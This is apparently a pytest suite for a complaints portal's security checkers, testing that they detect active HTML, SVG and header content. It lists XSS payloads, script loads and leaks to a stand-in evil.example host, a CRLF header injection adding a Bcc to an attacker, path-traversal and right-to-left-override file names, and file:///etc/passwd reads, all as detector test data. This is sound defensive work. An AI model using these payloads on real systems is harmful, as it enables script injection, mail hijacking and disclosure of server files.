    embedded = [base64.b64decode(uri).decode() for html in documents.html
                for uri in SVG_URI.findall(html)]
    assert embedded, "the report drew no chart, so none was checked"
    for svg in embedded:
        assert svg_problems(svg, corpus) == [], svg[:2000]
    assert any(all(shown_literally(svg, label) for label in labels.values())
               for svg in embedded)


# -- the checkers catch what they look for --------------------------------------------------------
#
# Every check above passes when its checker finds nothing; these make sure that each finds what
# it is there to find (and keeps quiet about what the portal's own pages rightly hold).

LEAK = "LEAKBASE"  # in a sample: replaced by the leak server's address

ACTIVE_IN_A_PAGE = [
    "<script>alert(1)</script>",
    '<script src="https://cdn.evil.example/x.js"></script>',
    '<script src="/static/js/app.js">alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    '<body onload="go()">',
    '<div hx-on:click="alert(1)">x</div>',
    '<div data-hx-on--after-swap="alert(1)">x</div>',
    '<div data-hx-get="https://evil.example/x" data-hx-trigger="load">x</div>',
    '<div hx-post="//evil.example/x">x</div>',
    '<div data-hx-vals="alert(1)">x</div>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<p style="color:red">x</p>',
    "<style>p{color:red}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<svg><circle r="1"/></svg>',
    '<img src="https://evil.example/x.png">',
]
ACTIVE_IN_A_DOCUMENT = [
    f'<img src="{LEAK}/leak.png">',
    '<img src="/etc/passwd">',
    '<img src="file:///etc/passwd">',
    '<img srcset="http://evil.example/y.png 2x">',
    '<style>@import url("file:///etc/passwd");</style>',
    "<style>body{background:url(x.png)}</style>",
    '<p style="background:url(x.png)">x</p>',
    '<link rel="stylesheet" href="notice.css">',
    '<script src="/static/js/app.js"></script>',
]
INERT_IN_A_PAGE = [
    '<script src="/static/js/app.js" defer></script>',
    '<link rel="stylesheet" href="/static/css/app.css"><link rel="icon" href="/favicon.ico">',
    '<a href="/complaints/TS-2026-00001">x</a><a href="https://example.com/">y</a>',
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    '<div data-hx-get="/complaints" data-hx-trigger="load" data-hx-confirm="alert(1)?">x</div>',
    '<input value="&lt;img src=x onerror=alert(1)&gt;">',
    "<textarea>&lt;/textarea&gt;&lt;script&gt;alert(1)&lt;/script&gt;</textarea>",
]
INERT_IN_A_DOCUMENT = [
    '<style>body{font-family:"Noto Sans CJK SC"}</style><p style="color:#333">x</p>',
    '<img src="img/logo.png"><img src="data:image/png;base64,iVBORw0KGgo=">',
]


def _sample(html: str, corpus: Corpus) -> str:
    return html.replace(LEAK, corpus.leak_base)


@pytest.mark.parametrize("html", ACTIVE_IN_A_PAGE)
def test_active_content_is_found_in_a_page(html, corpus):
    assert active_content(_sample(html, corpus), corpus) != []


@pytest.mark.parametrize("html", ACTIVE_IN_A_DOCUMENT)
def test_active_content_is_found_in_a_document(html, corpus):
    assert active_content(_sample(html, corpus), corpus, document=True) != []


@pytest.mark.parametrize("html", INERT_IN_A_PAGE)
def test_the_pages_own_markup_and_escaped_payloads_are_not_active(html, corpus):
    assert active_content(html, corpus) == []


@pytest.mark.parametrize("html", INERT_IN_A_DOCUMENT)
def test_a_documents_own_style_and_images_are_not_active(html, corpus):
    assert active_content(html, corpus, document=True) == []


# Payloads that make elements when pasted unescaped, and those that only do harm elsewhere (in
# an attribute, a header, a path, a template) and are checked there.
MARKUP_PAYLOADS = ("script", "img_onerror", "svg_onload", "data_hx", "hx_on", "js_link",
                   "css_import", "css_url", "link_css", "img_remote", "img_file", "iframe",
                   "chinese_mix")


def test_every_payload_that_makes_an_element_is_listed_as_markup(corpus):
    makes_elements = {p.name for p in corpus.payloads if parse(p.text).find(True)}
    assert makes_elements == set(MARKUP_PAYLOADS)


@pytest.mark.parametrize("name", MARKUP_PAYLOADS)
def test_each_payload_pasted_raw_is_found_by_its_signature(name, corpus):
    problems = active_content(f"<p>{corpus.named(name).text}</p>", corpus)
    assert any(p.startswith("payload element") for p in problems), problems


@pytest.mark.parametrize(("name", "html"), [
    ("attr_break", "<input value='{}'>"),
    ("js_bare", '<a href="{}">x</a>'),
    ("js_bare", '<div data-hx-get="{}">x</div>'),
])
def test_a_payload_pasted_raw_into_an_attribute_is_found(name, html, corpus):
    assert active_content(html.format(corpus.named(name).text), corpus) != []


def test_each_payload_escaped_is_shown_literally_and_is_not_active(corpus):
    for payload in corpus.payloads:
        page = (f"<p>{html_escape(payload.text)}</p>"
                f'<input name="q" value="{html_escape(payload.text)}">')
        assert active_content(page, corpus) == [], payload.name
        assert shown_literally(page, payload.text), payload.name
        assert shown_literally(f'<input value="{html_escape(payload.text)}">', payload.text)


@pytest.mark.parametrize(("name", "page"), [
    ("script", "<p><script>alert(1)</script></p>"),  # ran, not shown
    ("template", "<p>49 49 49</p>"),  # evaluated by a template engine
    ("chinese_mix", "<p>委托人王芳称律师三个月未回复，要求退费。</p>"),  # markup stripped
    ("crlf_header", "<p>name</p>"),  # cut at the line break
])
def test_a_payload_that_was_run_altered_or_cut_is_not_shown_literally(name, page, corpus):
    assert not shown_literally(page, corpus.named(name).text)


@pytest.mark.parametrize("header", [
    ("X-Note", "a\r\nBcc: attacker@evil.example"),
    ("X-Note\r\nBcc", "attacker@evil.example"),
    ("Bcc", "attacker@evil.example"),
    ("X-Injected", "1"),
    ("Location", "https://evil.example/"),
    ("HX-Redirect", "//evil.example/x"),
    ("Location", "/\\evil.example"),
    ("HX-Location", "javascript:alert(1)"),
    ("Content-Disposition", 'attachment; filename="../../etc/passwd"'),
    ("Content-Disposition", "attachment; filename=..%2F..%2Fx.txt"),
    ("Content-Disposition", "attachment; filename*=UTF-8''x%5Cy.txt"),
    ("Content-Disposition", 'attachment; filename="..\\\\x.txt"'),
], ids=repr)
def test_http_header_problems_are_found(header):
    assert http_header_problems([header]) != []


def test_the_portals_own_headers_have_no_problem():
    assert http_header_problems([
        ("Location", "/complaints/TS-2026-00001"), ("HX-Push-Url", "false"),
        ("Location", "http://localhost/complaints"),
        ("Content-Disposition", "attachment; filename=evidence-7.pdf; "
                                "filename*=UTF-8''%E5%90%88%E5%90%8C.pdf"),
        ("Content-Disposition", "attachment; filename=_2F.._2Fx.txt; "
                                "filename*=UTF-8''%252F..%252Fx.txt")]) == []


def _clean_email() -> bytes:
    message = EmailMessage()
    message["From"] = "Redress 投诉处理 <complaints@firm.example>"
    message["To"] = f"陈小红 <{CLIENT_EMAIL}>"
    message["Subject"] = "投诉受理通知 TS-2026-00001"
    message.set_content("尊敬的陈小红：")
    message.add_alternative("<p>尊敬的陈小红：</p>", subtype="html")
    return message.as_bytes()


def _with_header_line(raw: bytes, line: bytes) -> bytes:
    head, blank, body = raw.partition(b"\n\n")
    return head + b"\n" + line + blank + body


def test_a_well_formed_email_to_its_recipient_has_no_problem(corpus):
    raw = _clean_email()
    assert mail_problems(raw, [CLIENT_EMAIL]) == []
    assert [active_content(html, corpus, document=True) for html in html_parts(raw)] == [[]]


@pytest.mark.parametrize("line", [
    b"Bcc: attacker@evil.example",
    b"Cc: attacker@evil.example",
    b"Reply-To: attacker@evil.example",
    b"X-Injected: 1",
    b"To: somebody.else@example.com",
    b"Subject: a second subject",
    b"not a header line",
], ids=lambda line: line.decode())
def test_mail_problems_are_found(line):
    assert mail_problems(_with_header_line(_clean_email(), line), [CLIENT_EMAIL]) != []


def test_an_email_to_someone_unexpected_is_found():
    raw = _clean_email().replace(b"To: ", b"To: someone@example.org, ", 1)
    assert mail_problems(raw, [CLIENT_EMAIL]) == ["to: someone@example.org"]


def test_escaped_copies_are_found_outside_the_allowed_folder(tmp_path):
    token = secrets.token_hex(6)
    allowed, nested = tmp_path / "evidence", tmp_path / "a" / "b"
    for folder in (allowed, nested):
        folder.mkdir(parents=True)
    (allowed / f"escape-{token}.txt").write_bytes(TEXT_FILE)
    assert escaped_copies([tmp_path], token, allowed=[allowed]) == []
    (tmp_path / "a" / f"x-escape-{token}.txt").write_bytes(TEXT_FILE)
    (tmp_path / f"escape-{token}-abs.txt").write_bytes(TEXT_FILE)
    (tmp_path / "a" / f"escape-{secrets.token_hex(6)}.txt").write_bytes(TEXT_FILE)
    assert escaped_copies([tmp_path], token, allowed=[allowed]) == sorted([
        tmp_path / "a" / f"x-escape-{token}.txt", tmp_path / f"escape-{token}-abs.txt"])
    assert escaped_copies([tmp_path / "missing"], token) == []


@pytest.mark.parametrize("name", ["../x.txt", "a/b.txt", "a\\b.txt", "..x.txt", "a\r\nb.txt",
                                  "a\x00b.txt", "报告\u202etxt.exe", "报告\u202dexe.txt"],
                         ids=repr)
def test_bad_original_names_are_found(name):
    assert bad_original_name(name)


@pytest.mark.parametrize("name", ["合同.pdf", "invoice v2.final.pdf", "_2F.._2Fx.txt"])
def test_plain_original_names_are_not_bad(name):
    assert not bad_original_name(name)


@pytest.mark.parametrize("content", ["root:x:0:0:root:/root:/bin/bash", "[fonts]"])
def test_a_server_file_in_a_pdf_is_found(content):
    assert pdf_problems(one_page_pdf(content)) != []


def test_a_pdf_without_a_server_file_has_no_problem_and_its_text_is_read():
    pdf = one_page_pdf("Evidence page one")
    assert pdf_problems(pdf) == [] and pdf_text(pdf) == "Evidencepageone"


SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">{}</svg>'


@pytest.mark.parametrize("inner", [
    "<script>alert(1)</script>",
    '<a href="https://evil.example/"><text>x</text></a>',
    f'<image href="{LEAK}/leak.png"/>',
    '<use xlink:href="file:///etc/passwd#x"/>',
    '<svg onload="alert(1)"/>',
    '<foreignObject><iframe src="x"></iframe></foreignObject>',
    '<rect style="fill:url(https://evil.example/x)"/>',
    "<style>@import url(x.css);</style>",
    '<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>',
])
def test_svg_problems_are_found(inner, corpus):
    assert svg_problems(SVG.format(_sample(inner, corpus)), corpus) != []


def test_an_svg_chart_with_its_own_style_and_escaped_labels_has_no_problem(corpus):
    svg = SVG.format('<style>text{fill:#333}</style><defs><rect id="r"/></defs><use href="#r"/>'
                     '<rect style="opacity: 0" width="5" height="5"/>'
                     "<text>沟通 &lt;script&gt;alert(1)&lt;/script&gt;</text>")
    assert svg_problems(svg, corpus) == []
    assert shown_literally(svg, "沟通 <script>alert(1)</script>")


def test_a_foreign_fetch_is_found_and_weasyprint_refuses_it(documents, leak_server, corpus):
    static = pdf_module.STATIC_DIR
    recorder = DocumentRecorder(fetched=[f"file://{static}/css/notice.css",
                                         "data:image/png;base64,iVBORw0KGgo=",
                                         f"{corpus.leak_base}/leak.png", "file:///etc/passwd"])
    assert recorder.foreign_fetches() == [f"{corpus.leak_base}/leak.png", "file:///etc/passwd"]
    with pytest.raises(DocumentError):
        pdf_module.html_to_pdf(f'<p>x</p><img src="{corpus.leak_base}/leak.png">')
    assert documents.foreign_fetches() == [f"{corpus.leak_base}/leak.png"]
    assert leak_server.requests == []  # refused before any connection
    documents.fetched.clear()  # what the fixture would otherwise (rightly) fail on
    documents.html.clear()


def test_the_leak_server_hears_a_request(leak_server):
    with urlopen(f"{leak_server.base}/leak.css", timeout=5) as response:  # noqa: S310
        assert response.status == 200
    assert "GET /leak.css" in leak_server.requests
    leak_server.clear()
